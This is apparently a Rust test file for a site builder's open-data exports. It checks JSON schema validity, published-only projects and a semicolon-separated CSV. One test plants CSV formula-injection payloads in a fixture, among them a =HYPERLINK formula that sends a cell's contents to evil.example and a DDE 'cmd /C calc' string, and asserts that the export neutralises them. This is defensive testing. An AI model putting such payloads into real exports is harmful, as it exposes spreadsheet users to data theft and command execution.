//! The open data files of the fixture portal and the demo: `data/projects.json` validates
//! against `data/projects.schema.json` (Ajv, from `node_modules/`, which ./scripts/test.sh
//! installs), its projects are exactly the published ones with absolute addresses and no
//! personal data, and `data/projects.csv` has one row per project in the same order.

use std::path::Path;
use std::process::Command;

use crate::common::fixture;
use nyttig::build::{Built, Options, build};
use serde_json::Value;

const PUBLISHED: [&str; 4] =
    ["velferdsteknologi-hjemme", "digital-hjemmeoppfolging", "leksehjelp-paa-nett", "matroboten"];

fn built(root: &Path) -> Built {
    build(root, &Options::default()).unwrap_or_else(|d| panic!("{d}"))
}

fn text<'a>(b: &'a Built, file: &str) -> &'a str {
    std::str::from_utf8(&b.output[file]).unwrap_or_else(|_| panic!("{file} is not UTF-8"))
}

/// Ajv's verdict on `data` against `schema`.
fn validate(schema: &str, data: &str) -> Result<(), String> {
    let repo = Path::new(env!("CARGO_MANIFEST_DIR"));
    assert!(
        repo.join("node_modules/ajv-formats/package.json").is_file(),
        "Ajv is not installed in node_modules/: run ./scripts/test.sh (or npm ci) first"
    );
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("schema.json"), schema).unwrap();
    std::fs::write(dir.path().join("data.json"), data).unwrap();
    let out = Command::new("node")
        .arg(repo.join("tests/opendata/validate.js"))
        .arg(dir.path().join("schema.json"))
        .arg(dir.path().join("data.json"))
        .current_dir(repo)
        .output()
        .expect("node must be installed (./scripts/test.sh installs it)");
    let said = String::from_utf8_lossy(&out.stdout).into_owned() + &String::from_utf8_lossy(&out.stderr);
    if out.status.success() && said.trim() == "valid" { Ok(()) } else { Err(said) }
}

/// The CSV's rows, split as a spreadsheet would (quoted fields may hold `;`, `"` and breaks).
fn csv_rows(csv: &str) -> Vec<Vec<String>> {
    let body = csv.strip_prefix('\u{feff}').expect("the CSV starts with a UTF-8 byte order mark");
    let (mut rows, mut row, mut field, mut quoted, mut chars) =
        (Vec::new(), Vec::new(), String::new(), false, body.chars().peekable());
    while let Some(c) = chars.next() {
        match (c, quoted) {
            ('"', true) if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            ('"', _) => quoted = !quoted,
            (';', false) => row.push(std::mem::take(&mut field)),
            ('\r', false) => {}
            ('\n', false) => {
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            (c, _) => field.push(c),
        }
    }
    assert!(field.is_empty() && row.is_empty(), "the CSV does not end with a line break");
    rows
}

#[test]
fn projects_json_validates_and_holds_exactly_the_published_projects() {
    for root in [fixture("basic"), Path::new(env!("CARGO_MANIFEST_DIR")).to_path_buf()] {
        let b = built(&root);
        let json = text(&b, "data/projects.json");
        let schema = text(&b, "data/projects.schema.json");
        if let Err(errors) = validate(schema, json) {
            panic!("{}: data/projects.json does not validate against its schema:\n{errors}", root.display());
        }
        // The schema can fail: a project without its title does not validate.
        let mut broken: Value = serde_json::from_str(json).unwrap();
        broken[0].as_object_mut().unwrap().remove("title");
        assert!(validate(schema, &broken.to_string()).is_err(), "the schema accepts a project without a title");

        let projects: Vec<Value> = serde_json::from_str(json).unwrap();
        let base = serde_json::from_str::<Value>(schema).unwrap()["$id"].as_str().unwrap().to_owned();
        let origin: String = base.split('/').take(3).collect::<Vec<_>>().join("/");
        for p in &projects {
            for url in [&p["url"], &p["owner"]["url"], &p["image"]["url"]].into_iter().filter_map(Value::as_str) {
                assert!(url.starts_with(&origin), "{url} is not absolute on {origin}");
            }
        }
        assert!(!json.contains("\"phone\"") && !json.contains("\"email\""), "personal contact data in the open data");
        if root == fixture("basic") {
            let slugs: Vec<&str> = projects.iter().map(|p| p["slug"].as_str().unwrap()).collect();
            let mut sorted = slugs.clone();
            sorted.sort();
            let mut expected = PUBLISHED.to_vec();
            expected.sort();
            assert_eq!(sorted, expected, "the draft is left out, every published project is in");
        }
    }
}

#[test]
fn projects_csv_has_a_row_per_project_as_a_nordic_spreadsheet_reads_it() {
    let b = built(&fixture("basic"));
    let csv = text(&b, "data/projects.csv");
    assert!(csv.contains("\r\n"), "lines end with CR LF");
    let rows = csv_rows(csv);
    let header = &rows[0];
    assert_eq!(header, &nyttig::opendata::COLUMNS.map(str::to_owned).to_vec());
    let projects: Vec<Value> = serde_json::from_str(text(&b, "data/projects.json")).unwrap();
    assert_eq!(rows.len() - 1, projects.len(), "one row per project");
    let col = |name: &str| header.iter().position(|c| c == name).unwrap();
    for (row, p) in rows[1..].iter().zip(&projects) {
        assert_eq!(row.len(), header.len(), "{row:?}");
        assert_eq!(row[col("slug")], p["slug"].as_str().unwrap());
        assert_eq!(row[col("title")], p["title"].as_str().unwrap(), "quotes, `;` and markup survive");
        let tags: Vec<&str> = p["tags"].as_array().unwrap().iter().map(|t| t.as_str().unwrap()).collect();
        assert_eq!(row[col("tags")], tags.join("|"));
    }
}

#[test]
fn csv_cells_that_a_spreadsheet_would_run_are_text_and_the_json_keeps_them_exactly() {
    let dir = crate::common::copy_fixture("basic");
    let file = dir.path().join("content/projects/matroboten.md");
    let original = std::fs::read_to_string(&file).unwrap();
    let hostile = original
        .replace("title: Matroboten", "title: \"=HYPERLINK(\\\"https://evil.example/?x=\\\"&A1;\\\"Klik\\\")\"")
        .replace(
            "summary: En robot som skulle hjelpe beboere å spise selv.",
            "summary: \"\\t=1+1\"\ntags: [\"@SUM(A1)\", ok]\npartners: [\"+47 cmd|' /C calc'!A0\", \"\\r-2+3\", \"  =cmd\", \"＝1+1\", \"a-b\"]",
        );
    assert_ne!(original, hostile);
    std::fs::write(&file, hostile).unwrap();
    let b = built(dir.path());
    let projects: Vec<Value> = serde_json::from_str(text(&b, "data/projects.json")).unwrap();
    let p = projects.iter().find(|p| p["slug"] == "matroboten").unwrap();
    assert_eq!(p["title"], "=HYPERLINK(\"https://evil.example/?x=\"&A1;\"Klik\")", "the JSON keeps the text exactly");
    assert_eq!(p["partners"][0], "+47 cmd|' /C calc'!A0");

    let rows = csv_rows(text(&b, "data/projects.csv"));
    let header = &rows[0];
    let col = |name: &str| header.iter().position(|c| c == name).unwrap();
    let row = rows.iter().find(|r| r[col("slug")] == "matroboten").unwrap();
    // The front matter trims text, so the tab before `=1+1` is gone and `=` starts the cell.
    assert_eq!(row[col("title")], "'=HYPERLINK(\"https://evil.example/?x=\"&A1;\"Klik\")");
    assert_eq!(row[col("summary")], "'=1+1");
    assert_eq!(row[col("tags")], "'@SUM(A1)|ok");
    let partners: Vec<&str> = p["partners"].as_array().unwrap().iter().map(|t| t.as_str().unwrap()).collect();
    assert_eq!(partners.len(), 5);
    assert_eq!(row[col("partners")], format!("'{}", partners.join("|")), "a list's first item decides");
    for (cell, name) in row.iter().zip(header) {
        let start = cell.trim_start_matches([' ', '\t', '\r', '\n']);
        assert!(
            !start.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']) && !cell.starts_with(['\t', '\r']),
            "the cell {name} would run as a formula: {cell:?}"
        );
    }
    let page = text(&b, "data/index.html");
    assert!(page.contains("apostrof"), "the open-data page says how formula-like text is written");
}
